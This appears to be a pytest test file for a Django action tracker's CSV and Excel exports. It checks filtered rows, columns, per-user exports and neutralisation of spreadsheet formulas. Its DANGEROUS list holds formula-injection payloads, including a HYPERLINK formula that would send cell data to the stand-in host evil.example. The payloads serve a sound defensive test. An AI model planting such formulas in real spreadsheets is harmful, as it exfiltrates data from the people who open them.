"""The action list's CSV and Excel exports: every filtered row with its columns, only my actions from
/actions/mine/, and no cell a spreadsheet would run as a formula."""

import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from tests import factories
from tests.action_lists import csv_rows, day, get_export, make_action, xlsx_rows
from tracker.exports import HEADER
from tracker.models import ExtensionRequest


@pytest.fixture
def export_plan(db, lead):
    """55 open actions (more than one page) and 3 signed off, one of them with history worth exporting."""
    theme = factories.ThemeFactory(name="Offender management")
    finding = factories.FindingFactory(
        reference="AFI5", theme=theme, inspection=factories.InspectionFactory(title="PEEL 2016")
    )
    owner = factories.OwnerFactory(username="dci", first_name="Sam", last_name="Hughes")
    actions = factories.ActionFactory.create_batch(55, in_progress=True, due_date=day(30), finding=finding, owner=owner)
    factories.ActionFactory.create_batch(3, signed_off=True, due_date=day(-5), finding=finding, owner=owner)
    drifted = actions[0]
    drifted.original_due_date = day(-20)
    drifted.save()
    for _ in range(2):
        factories.ExtensionRequestFactory(
            action=drifted, status=ExtensionRequest.Status.APPROVED, decided_by=lead, decided_at=timezone.now()
        )
    factories.ExtensionRequestFactory(
        action=drifted, status=ExtensionRequest.Status.REFUSED, decided_by=lead, decided_at=timezone.now()
    )
    return {"drifted": drifted, "open_pks": {action.pk for action in actions}}


def test_csv_export_has_every_filtered_row_and_the_columns(signed_in, export_plan):
    response = signed_in.get("/actions/?status=in_progress&format=csv")
    rows = csv_rows(b"".join(response.streaming_content))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="actions-{day(0):%Y-%m-%d}.csv"'
    assert rows[0] == HEADER
    assert {int(row[0]) for row in rows[1:]} == export_plan["open_pks"]
    drifted = export_plan["drifted"]
    row = next(row for row in rows if row[0] == str(drifted.pk))
    assert row == [
        str(drifted.pk),
        "PEEL 2016",
        "AFI5",
        "Area for improvement",
        "Offender management",
        drifted.title,
        "Sam Hughes",
        "In progress",
        "Green",
        day(30).isoformat(),
        day(-20).isoformat(),
        "2",
        f"/actions/{drifted.pk}/",
    ]


def test_xlsx_export_has_every_filtered_row_and_the_columns(signed_in, export_plan):
    response = signed_in.get("/actions/?status=in_progress&format=xlsx")
    rows = xlsx_rows(response.content)

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == f'attachment; filename="actions-{day(0):%Y-%m-%d}.xlsx"'
    assert rows[0] == HEADER
    assert {row[0] for row in rows[1:]} == export_plan["open_pks"]
    drifted = export_plan["drifted"]
    row = next(row for row in rows if row[0] == drifted.pk)
    assert row[1:9] == ["PEEL 2016", "AFI5", "Area for improvement", "Offender management", drifted.title,
                        "Sam Hughes", "In progress", "Green"]  # fmt: skip
    assert row[9].date() == day(30)
    assert row[10].date() == day(-20)
    assert row[11:] == [2, f"/actions/{drifted.pk}/"]


def test_mine_exports_only_my_actions(client, export_plan, owner):
    make_action(title="Mine", owner=owner)
    client.force_login(owner)

    rows = csv_rows(get_export(client, "/actions/mine/?format=csv"))

    assert [row[5] for row in rows[1:]] == ["Mine"]


DANGEROUS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1", "-1", "@SUM(A1:A9)", "\tTabbed", "\rReturn"]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_exports_neutralise_formulas(signed_in, db, export_format):
    owner = factories.OwnerFactory(username="formula", first_name="=cmd", last_name="")
    finding = factories.FindingFactory(reference="-AFI1")
    for title in DANGEROUS:
        make_action(title=title, owner=owner, finding=finding)
    make_action(title="A plain title", owner=owner, finding=finding)

    content = get_export(signed_in, f"/actions/?format={export_format}")
    rows = csv_rows(content) if export_format == "csv" else xlsx_rows(content)

    # XML turns a carriage return into a line feed when the workbook is read back.
    expected = [f"'{title}" if export_format == "csv" else f"'{title}".replace("\r", "\n") for title in DANGEROUS]
    assert sorted(row[5] for row in rows[1:]) == sorted(["A plain title", *expected])
    assert {row[6] for row in rows[1:]} == {"'=cmd"}
    assert {row[2] for row in rows[1:]} == {"'-AFI1"}
    if export_format == "xlsx":
        sheet = load_workbook(io.BytesIO(content)).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
